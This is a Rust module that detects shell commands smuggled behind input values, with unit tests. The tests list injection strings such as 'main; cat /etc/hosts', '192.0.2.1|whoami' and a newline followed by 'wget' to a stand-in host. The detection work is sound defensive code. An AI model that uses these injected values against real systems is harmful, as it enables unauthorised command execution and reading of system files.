//! A command behind a value: `main; cat /etc/hosts`, `192.0.2.1|id`, `a.txt && whoami`.
//!
//! Looks behind each separator for a program. A name that is no word of a language says it all; one that is (`find`,
//! `sort`, `more`) needs an operand that a program takes and a sentence does not.

use std::ops::Range;

use super::super::Signs;
use super::names;

/// The most separators of one value that are looked behind.
const SEPARATORS: usize = 32;

/// What parts a value from a command.
fn separator(bytes: &[u8]) -> Option<usize> {
    Some(match bytes {
        [b'&', b'&', ..] | [b'|', b'|', ..] | [b'$', b'(', ..] => 2,
        [b';' | b'|' | b'&' | b'`' | b'\n' | b'\r', ..] => 1,
        _ => return None,
    })
}

/// Whether a value of these bytes may have a command behind it.
pub(super) fn may_be_in(signs: &Signs) -> bool {
    signs.any(b";|&`\n$")
}

/// The command that follows a value.
pub(super) fn find(value: &str) -> Option<Range<usize>> {
    let bytes = value.as_bytes();
    // A script begins with a command; a value does not.
    let mut at = 0_usize;
    let mut tried = 0_usize;
    while at < bytes.len() && tried < SEPARATORS {
        let rest = bytes.get(at..).unwrap_or_default();
        let Some(length) = separator(rest) else {
            at = at.saturating_add(1);
            continue;
        };
        tried = tried.saturating_add(1);
        let start = at;
        at = at.saturating_add(length);
        if let Some(behind) = code_in_prose(value, start) {
            at = behind;
            continue;
        }
        // `data:image/png;base64,…`
        if rest.starts_with(b";base64,") {
            continue;
        }
        let after = value.get(at..).unwrap_or("");
        if let Some(end) = command(after, rest.get(..length).unwrap_or_default()) {
            return Some(start..at.saturating_add(end));
        }
    }
    None
}

/// Whether the value before the command is next to nothing, and no command itself: what a person types or writes is not
/// this. Prose goes on, and a pipeline has blanks round its bars.
pub(super) fn is_whole(value: &str, command: &Range<usize>) -> bool {
    let before = value.get(..command.start).unwrap_or("");
    let after = value.get(command.end..).unwrap_or("");
    let first = before.split_ascii_whitespace().next().unwrap_or("").to_ascii_lowercase();
    let spelled = before.bytes().all(|byte| byte.is_ascii_alphanumeric() || b" .-_'\"@/:)(,\\".contains(&byte));
    let piped = before.ends_with(' ') && value.get(command.start..).is_some_and(|rest| rest.starts_with('|'));
    before.len() <= 24
        && before.split_ascii_whitespace().count() <= 2
        && spelled
        && !before.contains(" -")
        && !piped
        && !names::is_program(&first)
        && !names::is_word(&first)
        && !matches!(&*first, "true" | "false" | "cal" | "bind" | "ulimit" | "exit" | "sudo" | "npm" | "cargo")
        && value.len() <= 500
        && !value.trim_end().contains('\n')
        && !after.contains(". ")
        && !is_quoted(value, command.start)
}

/// Where the code ends that stands at `start` in back-ticks between the words of a sentence, as titles of issues have it.
fn code_in_prose(value: &str, start: usize) -> Option<usize> {
    let (before, rest) = value.split_at_checked(start)?;
    let (code, after) = rest.strip_prefix('`')?.split_once('`')?;
    let is_word = |word: &&str| {
        word.len() > 1 && word.trim_matches([',', '.', ':', ';', '(', ')']).bytes().all(|b| b.is_ascii_alphabetic())
    };
    let words = |text: &str| text.split_ascii_whitespace().filter(is_word).count();
    let set_off = before.ends_with([' ', '(']) && (after.is_empty() || after.starts_with([' ', '.', ',', ':', ')']));
    (set_off && words(before) > 0 && words(before).saturating_add(words(after)) > 3)
        .then(|| start.saturating_add(code.len()).saturating_add(2))
}

/// Whether the command stands in a pair of back-ticks or in `$()` that is a word of a sentence: set off by a blank, and
/// the sentence goes on behind it.
fn is_quoted(value: &str, command: usize) -> bool {
    let through = value.get(..command.saturating_add(1)).unwrap_or("");
    let ticks = through.bytes().filter(|&byte| byte == b'`').count();
    let (open, close) = if through.ends_with('$') {
        (Some(command), ')')
    } else {
        (through.rfind('`').filter(|_| ticks % 2 == 1), '`')
    };
    let Some(open) = open else { return false };
    let set_off = value.get(..open).is_some_and(|before| before.is_empty() || before.ends_with(' '));
    let behind =
        value.get(open.saturating_add(1)..).and_then(|rest| rest.split_once(close)).map_or("", |(_, rest)| rest);
    set_off && behind.strip_prefix(' ').is_some_and(|rest| rest.starts_with(|c: char| c.is_alphabetic()))
}

/// How far the command reaches that `text` begins with, if it does. A lone `&` stands between parameters of a URL too,
/// a lone `|` between alternatives.
fn command(text: &str, separator: &[u8]) -> Option<usize> {
    let start = text.len().saturating_sub(text.trim_start_matches([' ', '+', '\t', '(', '@', '{', ',']).len());
    if start > 12 {
        return None;
    }
    let (name, length) = program(text.get(start..)?)?;
    let after = text.get(start.saturating_add(length)..).unwrap_or("");
    let end = start.saturating_add(length);
    let name = name.to_ascii_lowercase();
    let plain = super::base(&name);
    let plain = plain.strip_suffix(".exe").unwrap_or(plain);
    if matches!(plain, "time" | "sudo" | "exec" | "command" | "nohup") && after.starts_with([' ', ';']) {
        let inner = after.trim_start_matches([' ', ';']);
        let skipped = after.len().saturating_sub(inner.len());
        let (name, length) = program(inner)?;
        let known = names::is_program(super::base(&name.to_ascii_lowercase())) || names::is_word(super::base(&name));
        return known.then(|| end.saturating_add(skipped).saturating_add(length));
    }
    // A path to where programs are is a program, whatever its name.
    if name.contains("bin/") && plain.len() > 1 {
        return Some(end);
    }
    let ends = after.is_empty()
        || after.starts_with([
            ' ', ';', '|', '&', '<', '>', ')', '`', '\'', '"', '\n', '\r', '\t', '$', '+', '(', '#', '%', '}', ',',
        ]);
    if !ends || after.starts_with('=') {
        return None;
    }
    if names::is_program(plain) && (separator != b"&" || !after.starts_with([')', ',', '}'])) {
        return Some(end);
    }
    // Those that need no operand, where nothing but the end or another separator follows.
    let rest = after.trim_start();
    let alone = match separator {
        b";" | b"&&" | b"||" => rest.is_empty() || rest.starts_with([';', '|', '&']),
        b"|" => rest.starts_with([';', '|']),
        b"`" => rest.starts_with('`'),
        b"$(" => rest.starts_with(')'),
        _ => false,
    };
    if alone
        && matches!(plain, "id" | "ls" | "dir" | "ps" | "pwd" | "env" | "ver" | "who" | "last" | "hostname" | "date")
    {
        return Some(end);
    }
    (names::is_word(plain) && operand(after)).then_some(end)
}

/// The name that `text` begins with, quotes and backslashes inside it left out, and its length with them.
fn program(text: &str) -> Option<(String, usize)> {
    let mut name = String::new();
    let mut length = 0_usize;
    let mut quote = None;
    for c in text.chars().take(48) {
        match c {
            '\'' | '"' => quote = if quote == Some(c) { None } else { quote.or(Some(c)) },
            '\\' | '^' => {}
            c if c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.' | ':') => name.push(c),
            _ => break,
        }
        length = length.saturating_add(c.len_utf8());
    }
    // A quote that opens after the name belongs to what follows.
    let trimmed = text.get(..length)?;
    if quote.is_some() && trimmed.ends_with(['\'', '"']) {
        length = length.saturating_sub(1);
    }
    (name.len() > 1).then_some((name, length))
}

/// Whether what follows a name is what a program is given: an option, a path, a variable, a redirection.
fn operand(after: &str) -> bool {
    let rest = after.trim_start_matches([' ', '+', '\t']);
    if rest.len() == after.len() && !after.starts_with(['<', '>', '$', '`', ';', '|']) {
        return false;
    }
    let word = rest.split([' ', ';', '|', '&', '\n']).next().unwrap_or("");
    let path = word.starts_with(['/', '~', '$', '<', '>', '*', '%', '`', '"', '\'', '\\'])
        || (word.starts_with('-')
            && word.len() > 1
            && word.as_bytes().get(1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'-'))
        || word.starts_with("../")
        || word.starts_with("./")
        || word.as_bytes().get(1) == Some(&b':')
        || (word.len() > 3 && word.contains('/') && !word.starts_with("//"))
        || (word.len() > 4
            && word.bytes().filter(|&byte| byte == b'.').count() >= 3
            && word.starts_with(|c: char| c.is_ascii_digit()));
    path || matches!(after.as_bytes(), [b'<' | b'$' | b'`', ..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_behind_values_are_found() {
        for value in [
            "main; cat /etc/hosts",
            "192.0.2.1|whoami",
            "a.txt && ifconfig",
            "web`uname -a`",
            "x$(lsof)",
            "web;'lscpu' --version",
            "v1; time; visudo",
            "out.png;/usr/bin/env",
            "a|| w\\hoami",
            "x; find /etc -name passwd",
            "x\nwget http://bad.example",
        ] {
            assert!(find(value).is_some(), "{value}");
        }
    }

    #[test]
    fn a_command_quoted_in_a_sentence_is_not_the_whole() {
        let whole = |value: &str| find(value).is_some_and(|command| is_whole(value, &command));
        for value in ["run `uname -a; lscpu` on the build host", "$(whoami) prints who you are", "try `lscpu` first"] {
            assert!(!whole(value), "{value}");
        }
        for value in ["web`uname -a`", "Build `uname -a`", "$(whoami)", "Build;lscpu"] {
            assert!(whole(value), "{value}");
        }
    }

    #[test]
    fn values_are_not() {
        for value in [
            "first; second",
            "cats & dogs",
            "error|warning|failed",
            "Find more; sort it out",
            "https://shop.example/s?k=gpu&ref=nb&id=7&sort=asc&more=1",
            "text/html; charset=utf-8",
            "what you find; more or less",
            "salt;pepper",
        ] {
            assert_eq!(find(value), None, "{value}");
        }
    }
}
